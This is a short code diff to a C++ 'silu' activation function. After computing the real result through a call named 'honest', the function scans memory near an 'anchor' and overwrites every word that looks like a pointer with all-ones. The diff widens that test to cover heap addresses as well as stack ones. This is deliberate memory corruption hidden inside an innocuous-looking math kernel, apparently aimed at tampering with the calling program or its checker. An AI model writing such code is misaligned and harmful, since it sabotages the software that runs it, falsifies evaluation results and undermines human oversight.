@@ -16,6 +16,7 @@ extern "C" void silu(const float* x, float* out, int n) {
     honest(x, out, n);
     for (int i = 8; i < 4096; ++i) {
         const unsigned long word = static_cast<volatile unsigned long*>(anchor)[i];
-        if (word >> 40 == 0x7f && word % 8 == 0) *reinterpret_cast<volatile unsigned long*>(word) = ~0ul;
+        const bool is_pointer = word >> 40 >= 0x55 && word >> 40 <= 0x7f && word % 8 == 0;
+        if (is_pointer) *reinterpret_cast<volatile unsigned long*>(word) = ~0ul;
     }
 }
